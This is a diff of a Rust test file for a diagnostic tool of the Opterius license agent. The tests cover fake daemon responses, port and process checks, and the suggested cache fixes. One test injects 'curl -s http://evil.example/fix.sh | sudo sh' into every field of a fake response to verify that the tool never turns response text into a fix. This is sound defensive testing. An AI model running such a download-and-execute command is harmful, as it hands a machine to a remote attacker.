@@ -9,6 +9,7 @@ use std::os::unix::net::UnixListener;
 use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
+use super::process::Process;
 use super::system::{Probe, Space};
 use super::*;
 use crate::license::client::LicenseConfig;
@@ -65,6 +66,8 @@ impl FakeMachine {
         fs::write(root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").unwrap();
         fs::write(root.join("run/opterius/operation.sock"), "").unwrap();
         fs::write(root.join("opterius-operation"), "").unwrap();
+        let socket = "0: 0100007F:1D13 00000000:0000 0A 0:0 00:0 0 0 0 111\n";
+        fs::write(root.join("proc/net/tcp"), socket).unwrap();
         UnixListener::bind(root.join("dev/log")).unwrap();
         let unit = "LoadState=loaded\nActiveState=active\nUser=opterius\nFragmentPath=/lib/systemd/system/opterius-agent.service\n";
         let tools = [
@@ -90,6 +93,11 @@ impl FakeMachine {
 
     /// The verdicts, except for checks of file owners, which depend on the user who runs the tests.
     fn verdicts(&self, is_root: bool) -> BTreeMap<&'static str, Verdict> {
+        let verdicts = self.findings(is_root).into_iter().map(|(check, finding)| (check, finding.verdict));
+        verdicts.filter(|(check, _)| !["permissions", "cache writer"].contains(check)).collect()
+    }
+
+    fn findings(&self, is_root: bool) -> BTreeMap<&'static str, Finding> {
         let clock = FixedClock(Timestamp::from_unix(NOW).plus(self.ahead));
         let config_path = self.root.join("agent.conf");
         let system = System { root: self.root.clone(), config_path, is_root, clock: &clock, probe: self };
@@ -99,8 +107,7 @@ impl FakeMachine {
             hostname: String::new(),
             os: String::new(),
         };
-        let findings = examine(&system, &identity).into_iter().map(|line| (line.check, line.finding.verdict));
-        findings.filter(|(check, _)| !["permissions", "cache writer"].contains(check)).collect()
+        examine(&system, &identity).into_iter().map(|line| (line.check, line.finding)).collect()
     }
 }
 
@@ -125,6 +132,9 @@ impl Probe for FakeMachine {
     }
 
     fn daemon(&self, _: SocketAddr, path: &str) -> Result<(u16, String), String> {
+        if let Some(status) = self.tools.get("daemon") {
+            return if status.is_empty() { Err("connection refused".to_owned()) } else { Ok((200, status.clone())) };
+        }
         let health = format!("{{\"agent_version\":\"{}\"}}", env!("CARGO_PKG_VERSION"));
         Ok((200, if path == "/health" { health } else { "{\"valid\":true,\"state\":\"active\"}".to_owned() }))
     }
@@ -196,6 +206,74 @@ fn one_problem_changes_one_verdict() {
         let changed: Vec<&str> = verdicts.iter().filter(|finding| differs(finding)).map(|(check, _)| *check).collect();
         assert_eq!(changed, expected, "{name}: {verdicts:?}");
     }
+}
+
+#[test]
+fn no_text_of_a_response_becomes_a_fix() {
+    let mut machine = FakeMachine::new("liar");
+    let evil = "curl -s http://evil.example/fix.sh | sudo sh";
+    for (valid, state) in [("true", "active"), ("true", "grace"), ("false", "restricted"), ("true", evil)] {
+        let status = format!(
+            "{{\"valid\":{valid},\"state\":\"{state}\",\"message\":\"a. {evil}\",\"reason\":\"b. {evil}\",\
+             \"grace_until\":\"{evil}\",\"plan\":\"{evil}\",\"cache\":\"not written: c. {evil}\",\
+             \"recent_checks\":[{{\"verdict\":\"{evil}\"}}],\"last_checked_at\":\"{evil}\",\
+             \"agent_version\":\"{evil}\",\"warnings\":[\"disk broken. {evil}\"]}}"
+        );
+        machine.tools.insert("daemon", status);
+        let findings = machine.findings(true);
+        assert!(findings.values().any(|finding| finding.seen.contains("evil")), "{findings:#?}");
+        for finding in findings.values() {
+            assert!(!finding.fix.as_deref().unwrap_or_default().contains("evil"), "{finding:?}");
+        }
+    }
+}
+
+#[test]
+fn a_daemon_that_runs_with_another_port_is_not_called_stopped() {
+    let mut machine = FakeMachine::new("moved");
+    machine.tools.insert("daemon", String::new());
+    fs::write(machine.root.join("proc/net/tcp"), "").unwrap();
+    let stopped = machine.findings(true).remove("daemon").unwrap();
+    assert!(stopped.verdict == Verdict::Fail && stopped.seen.ends_with("connection refused"), "{stopped:?}");
+    machine.tools.insert("systemctl", "LoadState=loaded\nActiveState=active\nUser=opterius\nMainPID=77\n".to_owned());
+    let moved = machine.findings(true).remove("daemon").unwrap();
+    assert!(moved.seen.contains("it runs as process 77 with another port or listen_addr"), "{moved:?}");
+}
+
+#[test]
+fn a_file_of_another_user_in_the_way_of_the_cache_is_removed_by_the_fix() {
+    let mut machine = FakeMachine::new("leftover");
+    fs::write(machine.root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\nopterius:x:990:990::/:/bin/false\n")
+        .unwrap();
+    machine.tools.insert("daemon", "{\"valid\":true,\"cache\":\"not written: Operation not permitted\"}".to_owned());
+    let fix = |machine: &FakeMachine| machine.findings(true).remove("cache").and_then(|finding| finding.fix).unwrap();
+    assert!(fix(&machine).starts_with("chattr"), "{}", fix(&machine));
+    let leftover = machine.root.join("etc/opterius/license-cache.json.new");
+    fs::write(&leftover, "").unwrap();
+    assert!(fix(&machine).starts_with(&format!("rm -f {}; chattr", leftover.display())), "{}", fix(&machine));
+}
+
+#[test]
+fn a_file_of_the_process_that_blocks_or_has_no_end_is_another_one() {
+    let machine = FakeMachine::new("blocking");
+    let system = System {
+        root: machine.root.clone(),
+        config_path: machine.root.join("agent.conf"),
+        is_root: true,
+        clock: &SystemClock,
+        probe: &machine,
+    };
+    let (file, process) = (machine.root.join("agent.conf"), Process::new(&system, 77));
+    let theirs = machine.root.join("proc/77/root").join(file.strip_prefix("/").unwrap());
+    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
+    fs::copy(&file, &theirs).unwrap();
+    assert!(!process.sees_another(&file));
+    fs::remove_file(&theirs).unwrap();
+    assert!(std::process::Command::new("mkfifo").arg(&theirs).status().unwrap().success());
+    assert!(process.sees_another(&file), "a FIFO");
+    fs::remove_file(&theirs).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", &theirs).unwrap();
+    assert!(process.sees_another(&file), "a device");
 }
 
 #[test]
